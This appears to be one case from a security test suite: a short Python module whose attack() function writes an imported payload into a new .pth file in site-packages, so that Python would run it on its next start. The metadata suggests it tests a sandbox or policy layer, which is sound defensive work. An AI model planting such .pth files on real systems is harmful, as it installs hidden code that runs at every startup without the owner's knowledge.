"""A .pth file is planted, which the next start would run."""
CATEGORY = "forging"
REACH = "run"
POLICIES = "allow"
RUNS = 2

from . import payload


def attack():
    import site
    path = site.getsitepackages()[0] + "/a.pth"
    with open(path, "w") as file:
        file.write(payload.SOURCE)
